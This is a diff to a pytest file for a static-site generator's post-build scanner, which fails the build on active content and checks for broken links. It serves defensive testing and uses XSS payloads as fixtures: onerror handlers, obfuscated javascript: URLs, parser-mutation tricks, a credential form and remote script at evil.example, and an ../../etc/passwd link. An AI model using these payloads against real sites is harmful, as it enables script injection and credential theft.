@@ -1,46 +1,129 @@
-"""The post-build scan: active content inside a page's content fails the build."""
+"""The post-build scan reads every document as a browser does; anything active that is not the theme's fails the build."""
 
 from __future__ import annotations
 
+import re
+import shutil
 from pathlib import Path
 
 import pytest
 
-from briefing_gen.scan import active_content, broken_links
+from briefing_gen.build import Project, theme_of
+from briefing_gen.config import theme_dirs
+from briefing_gen.scan import ThemeScripts, active_content, broken_links, theme_scripts
 from tests.conftest import Run
 
-ARTICLE = '<html><head><script src="theme.js"></script></head><body><article class="md-content__inner md-typeset">{}</article><script>theme()</script></body></html>'
+PAGE = (
+    '<!doctype html><html><head><title>t</title><script src="theme.js"></script></head>'
+    '<body><article class="md-content__inner md-typeset">{}</article><script>theme()</script></body></html>'
+)
+THEME = ThemeScripts(files=frozenset({"theme.js"}), inline=re.compile(r"theme\(\)"))
 
 
 @pytest.mark.parametrize(
     ("content", "finding"),
     [
-        ("<p>hi</p><script>alert(1)</script>", "page.html: line 1: <script>"),
-        ('<img src="x.png" onerror="alert(1)">', "page.html: line 1: <img onerror=…> event handler"),
-        ('<a href="JaVaScRiPt:alert(1)">x</a>', 'page.html: line 1: <a href="JaVaScRiPt:alert(1)">'),
-        ('<a href="&#106;avascript:alert(1)">x</a>', 'page.html: line 1: <a href="javascript:alert(1)">'),
-        ('<a href="java\tscript:alert(1)">x</a>', 'page.html: line 1: <a href="java\tscript:alert(1)">'),
+        ("<p>hi</p><script>alert(1)</script>", "page.html: <script>"),
+        ('<img src="x.png" onerror="alert(1)">', "page.html: <img onerror=…> event handler"),
+        ('<a href="JaVaScRiPt:alert(1)">x</a>', 'page.html: <a href="JaVaScRiPt:alert(1)">'),
+        ('<a href="&#106;avascript:alert(1)">x</a>', 'page.html: <a href="javascript:alert(1)">'),
+        ('<a href="java\tscript:alert(1)">x</a>', 'page.html: <a href="java\\x09script:alert(1)">'),
+        ('<img src="data:text/html;base64,PHNjcmlwdD4=">', 'page.html: <img src="data:text/html;base64,PHNjcmlwdD4=">'),
+        ('<iframe src="https://example.org"></iframe>', "page.html: <iframe>"),
+        # What Python's html.parser misread: a browser sees each of these as an element.
+        ("<!--><img src=x onerror=alert(1)>-->", "page.html: <img onerror=…> event handler"),
+        ("<svg><style><img src=x onerror=alert(1)></style></svg>", "page.html: <img onerror=…> event handler"),
         (
-            '<img src="data:text/html;base64,PHNjcmlwdD4=">',
-            'page.html: line 1: <img src="data:text/html;base64,PHNjcmlwdD4=">',
+            "</p></p></div></div></article></body><img src=x onerror=alert(1)>",
+            "page.html: <img onerror=…> event handler",
         ),
-        ('<iframe src="https://example.org"></iframe>', "page.html: line 1: <iframe>"),
+        (
+            '<svg><a><animate attributeName="href" values="#"/><text>x</text></a></svg>',
+            "page.html: <animate> that changes a link",
+        ),
+        ('<svg><set attributeName="xlink:href" to="https://x"/></svg>', "page.html: <set> that changes a link"),
+        ('<math><mi href="javascript:alert(1)">m</mi></math>', 'page.html: <mi href="javascript:alert(1)">'),
+        ("<template><img src=x onerror=alert(1)></template>", "page.html: <template>"),
+        ('<meta http-equiv="Refresh" content="0;url=https://evil.example">', 'page.html: <meta http-equiv="refresh">'),
+        ('<form action="https://evil.example"><input name="password"></form>', "page.html: <form>"),
+        ('<base href="https://evil.example/">', "page.html: <base>"),
+        ('<script src="https://evil.example/x.js"></script>', 'page.html: <script src="https://evil.example/x.js">'),
+        ('<script type="module">import("https://evil.example/x.js")</script>', "page.html: <script>"),
+        (
+            '<div id="__config">{"search": "evil.js"}</div>',
+            'page.html: <div id="__config"> (the theme reads its settings from it)',
+        ),
+        (
+            '<section id="fact-max-fine"><img src=x onerror=alert(1)></section>',
+            "page.html: <img onerror=…> event handler inside #fact-max-fine",
+        ),
     ],
 )
-def test_active_content_in_the_article_is_found(tmp_path: Path, content: str, finding: str) -> None:
-    (tmp_path / "page.html").write_text(ARTICLE.format(content), encoding="utf-8")
-    assert active_content(tmp_path) == [finding]
+def test_active_content_anywhere_in_a_page_is_found(tmp_path: Path, content: str, finding: str) -> None:
+    (tmp_path / "page.html").write_text(PAGE.format(content), encoding="utf-8")
+    assert active_content(tmp_path, THEME) == [finding]
+
+
+def test_the_head_is_read_too(tmp_path: Path) -> None:
+    # What a title written raw into <title> would make: the script runs before any content.
+    page = PAGE.replace("<title>t</title>", "<title>x </title><script>alert(1)</script> - Site</title>")
+    (tmp_path / "page.html").write_text(page.format(""), encoding="utf-8")
+    assert active_content(tmp_path, THEME) == ["page.html: <script>"]
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "finding"),
+    [
+        ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg: <script>"),
+        ("old.htm", "<p onmouseover=alert(1)>x</p>", "old.htm: <p onmouseover=…> event handler"),
+        ("a/b.xhtml", '<a href="javascript:alert(1)">x</a>', 'a/b.xhtml: <a href="javascript:alert(1)">'),
+        (
+            "feed.xml",
+            '<?xml-stylesheet type="text/xsl" href="x.xsl"?><feed/>',
+            "feed.xml: <?xml-stylesheet?> (a style sheet that can rewrite the document)",
+        ),
+    ],
+)
+def test_every_file_a_browser_reads_as_markup_is_scanned(tmp_path: Path, name: str, content: str, finding: str) -> None:
+    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+    (tmp_path / name).write_text(content, encoding="utf-8")
+    assert active_content(tmp_path, THEME) == [finding]
 
 
 def test_the_themes_own_scripts_are_not_content(tmp_path: Path) -> None:
-    (tmp_path / "page.html").write_text(
-        ARTICLE.format('<p><a href="https://example.org">fine</a></p>'), encoding="utf-8"
-    )
-    assert active_content(tmp_path) == []
+    (tmp_path / "page.html").write_text(PAGE.format('<p><a href="https://example.org">fine</a></p>'), encoding="utf-8")
+    assert active_content(tmp_path, THEME) == []
+
+
+@pytest.fixture(scope="module")
+def material(tmp_path_factory: pytest.TempPathFactory) -> ThemeScripts:
+    site = tmp_path_factory.mktemp("site")
+    return theme_scripts(site, theme_dirs({"theme": {"name": "material"}}, site), [], "")
+
+
+def test_an_inline_script_is_the_themes_only_as_its_templates_write_it(tmp_path: Path, material: ThemeScripts) -> None:
+    script = '__md_scope=new URL("{}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}catch(e){{}}}}'
+    assert material.allows_inline(script.format("../.."))
+    assert not material.allows_inline(script.format('",alert(1),"'))
+    assert not material.allows_inline(script.format("javascript:alert(1)"))
+    assert not material.allows_inline("alert(1)")
+
+
+def test_a_script_file_is_the_themes_only_if_it_has_the_themes_bytes(tmp_path: Path) -> None:
+    theme_dir = theme_dirs({"theme": {"name": "material"}}, tmp_path)[0]
+    bundle = next((theme_dir / "assets" / "javascripts").glob("bundle.*.min.js")).relative_to(theme_dir).as_posix()
+    (tmp_path / bundle).parent.mkdir(parents=True)
+    shutil.copy(theme_dir / bundle, tmp_path / bundle)
+    (tmp_path / "page.html").write_text(f'<script src="{bundle}"></script>', encoding="utf-8")
+    assert active_content(tmp_path, theme_scripts(tmp_path, [theme_dir], [], "")) == []
+    (tmp_path / bundle).write_text("alert(1)", encoding="utf-8")  # a page's asset planted under the theme's name
+    assert active_content(tmp_path, theme_scripts(tmp_path, [theme_dir], [], "")) == [
+        f'page.html: <script src="{bundle}">'
+    ]
 
 
 def test_the_real_site_has_no_active_content(built: Path) -> None:
-    assert active_content(built / "site") == []
+    assert active_content(built / "site", theme_of(Project(built), built / "site")) == []
 
 
 def test_a_script_in_a_hand_written_page_fails_the_build_and_keeps_the_site(project: Path, run: Run) -> None:
@@ -52,8 +135,10 @@ def test_a_script_in_a_hand_written_page_fails_the_build_and_keeps_the_site(proj
     )
     code, _, err = run(project, "build")
     assert code == 1
-    assert "active content in the built pages" in err
-    assert "methodology/index.html: line" in err and ": <script>" in err
+    assert (
+        "error: active content in the built pages (scripts, event handlers, frames, script URLs):\nmethodology/index.html: <script>\n"
+        in err
+    )
     assert (project / "site" / "methodology" / "index.html").read_bytes() == before
 
 
@@ -66,10 +151,19 @@ def test_broken_relative_links_and_anchors_are_found(tmp_path: Path) -> None:
         encoding="utf-8",
     )
     assert broken_links(tmp_path) == [
-        "page.html: line 2: link to a/#gone leads nowhere",
-        "page.html: line 3: link to b/ leads nowhere",
-        "page.html: line 6: link to ../../etc/passwd leads nowhere",
+        "page.html: link to a/#gone leads nowhere",
+        "page.html: link to b/ leads nowhere",
+        "page.html: link to ../../etc/passwd leads nowhere",
     ]
+
+
+def test_a_site_under_a_folder_resolves_its_absolute_links(tmp_path: Path) -> None:
+    # GitHub Pages' usual project address, https://org.github.io/briefings/: the 404 page links from /briefings/.
+    (tmp_path / "a").mkdir()
+    (tmp_path / "a" / "index.html").write_text("<p>x</p>", encoding="utf-8")
+    (tmp_path / "404.html").write_text('<a href="/briefings/a/">a</a><a href="/briefings/b/">b</a>', encoding="utf-8")
+    theme = ThemeScripts(base_path="/briefings/")
+    assert broken_links(tmp_path, theme) == ["404.html: link to /briefings/b/ leads nowhere"]
 
 
 def test_the_real_site_has_no_broken_links(built: Path) -> None:
